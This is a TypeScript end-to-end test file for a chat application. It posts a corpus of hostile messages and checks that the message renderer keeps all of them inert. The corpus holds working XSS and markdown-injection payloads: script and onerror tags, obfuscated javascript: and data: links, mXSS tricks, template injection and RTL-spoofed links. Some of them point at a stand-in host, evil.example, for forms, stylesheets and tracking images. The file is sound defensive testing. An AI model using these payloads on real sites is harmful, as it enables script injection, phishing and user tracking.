import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startWorkplace, type Person, type Workplace } from './workplace.ts';

let place: Workplace;
let ada: Person;

/** Sets when anything of a message runs. */
const alarm = 'document.documentElement.dataset.alarm = 1';

/** What has broken into pages elsewhere, and what would if this parser or the drawing of its tokens changed. */
const corpus: readonly string[] = [
  `<script>${alarm}</script>`,
  `<img src=x onerror="${alarm}">`,
  `<svg/onload=${alarm}><svg><script>${alarm}</script></svg>`,
  `<iframe srcdoc="<script>parent.${alarm}</script>"></iframe>`,
  `<a href="javascript:${alarm}" style="position:fixed;inset:0">press</a>`,
  `<style>* { display: none }</style><link rel=stylesheet href=//evil.example/a.css>`,
  `<form action=//evil.example><input name=password autofocus onfocus="${alarm}"></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${alarm}>`,
  `[press](javascript:${alarm})`,
  `[press](JaVaScRiPt:${alarm})`,
  `[press](java\tscript:${alarm})`,
  `[press](java&#115;cript:${alarm})`,
  `[press](&#106;avascript:${alarm})`,
  `[press](%01javascript:${alarm})`,
  `[press](<javascript:${alarm}>)`,
  `[press](data:text/html,<script>parent.${alarm}</script>)`,
  `[press](vbscript:msgbox)`,
  `[press](file:///etc/passwd)`,
  `[press](//evil.example/without-scheme)`,
  `[press](blob:https://evil.example/1)`,
  `<javascript:${alarm}>`,
  `![picture](https://evil.example/tracking.png "onerror=${alarm}")`,
  `![x](javascript:${alarm})`,
  `[press](https://example.org" onmouseover="${alarm})`,
  `[press](https://example.org "title\\" onmouseover=\\"${alarm}")`,
  `[a]: javascript:${alarm}\n\n[a]`,
  `\`\`\`js" onload="${alarm}\n</code></pre><script>${alarm}</script>\n\`\`\``,
  `\`</code><script>${alarm}</script>\``,
  `| a | b |\n| - | - |\n| <img src=x onerror=${alarm}> | [x](javascript:${alarm}) |`,
  `> - [ ] <input onfocus=${alarm} autofocus>`,
  `:"><script>${alarm}</script>: @"><script>${alarm}</script> #"><img/src/onerror=${alarm}>`,
  `$\{${alarm}} {{constructor.constructor('${alarm}')()}}`,
  `http://example.org/"onmouseover="${alarm} www.example.org'onclick='${alarm}`,
  `\u202Ehttps://evil.example/\u202C [https://bank.example](https://evil.example)`,
];

beforeAll(async () => {
  place = await startWorkplace();
  // High enough for all of them: nothing has to be scrolled into view, and so drawn anew, while it is looked at.
  ada = await place.person('Ada', { viewport: { width: 1280, height: 5_000 } });
  const sent = { roomId: place.generalId };
  for (const [index, text] of corpus.entries()) {
    await ada.call('message.send', { ...sent, clientId: `hostile-text-${index}`, text });
  }
}, 240_000);
afterAll(() => place.close());

interface Looked {
  readonly rows: number;
  readonly strange: readonly string[];
  readonly hrefs: readonly string[];
  readonly alarm: boolean;
}

/** Everything that is drawn of messages: elements and attributes that a text should not be able to make, and all links. */
function look(page: Page): Promise<Looked> {
  return page.evaluate(() => {
    const harmless =
      /^(a|b|blockquote|br|button|code|div|em|hr|li|mark|ol|p|path|polyline|pre|rect|s|span|strong|svg|table|tbody|td|th|thead|time|tr|ul)$/;
    const all = [...document.querySelectorAll('.room-timeline .message .md, .room-timeline .message .md *')];
    const strange = all.flatMap((element) => {
      const name = element.localName;
      const attributes = [...element.attributes].filter(
        (one) => one.name.startsWith('on') || /^(style|srcdoc|action|formaction|xlink:href)$/.test(one.name),
      );
      return [
        ...(harmless.test(name) ? [] : [name]),
        ...attributes.map((one) => `${name} ${one.name}=${one.value}`),
      ];
    });
    const links = document.querySelectorAll<HTMLAnchorElement>('.room-timeline .message .md a');
    return {
      rows: document.querySelectorAll('.room-timeline .message .md').length,
      strange,
      hrefs: Array.from(links, (link) => link.href),
      alarm: document.documentElement.dataset['alarm'] !== undefined,
    };
  });
}

describe('hostile texts', { timeout: 120_000 }, () => {
  test('are shown, and nothing of them is anything but text and harmless links', async () => {
    const { page } = ada;
    await expect.poll(async () => (await look(page)).rows, { timeout: 60_000 }).toBe(corpus.length);
    const { strange, alarm: hasRun, hrefs } = await look(page);
    expect(strange).toEqual([]);
    expect(hasRun).toBe(false);
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(href).toMatch(/^(https?|mailto):/);
    expect(place.complaints()).toEqual([]);
  });

  test('do nothing when they are pressed, or pointed at', async () => {
    const { page } = ada;
    const pressed = page.locator('.room-timeline .message .md').filter({ hasText: 'press' });
    for (const row of await pressed.all()) await row.hover();
    expect((await look(page)).alarm).toBe(false);
    const links = await page.locator('.room-timeline .message .md a[target="_blank"]').all();
    for (const link of links) expect(await link.getAttribute('rel')).toMatch(/noopener noreferrer/);
  });

  test('are inert where they are edited, quoted and listed as well', async () => {
    const { page } = ada;
    await ada.call('message.save', { messageId: await newestId(page) });
    await page.goto('/saved');
    await page.locator('.message-card .md').first().waitFor();
    await page.goto('/mentions');
    await page.locator('.main-frame').waitFor();
    expect(await page.evaluate(() => document.documentElement.dataset['alarm'] ?? null)).toBeNull();
    expect(place.complaints()).toEqual([]);
  });
});

async function newestId(page: Page): Promise<string> {
  return (await page.locator('.room-timeline .message').last().getAttribute('data-message')) ?? '';
}
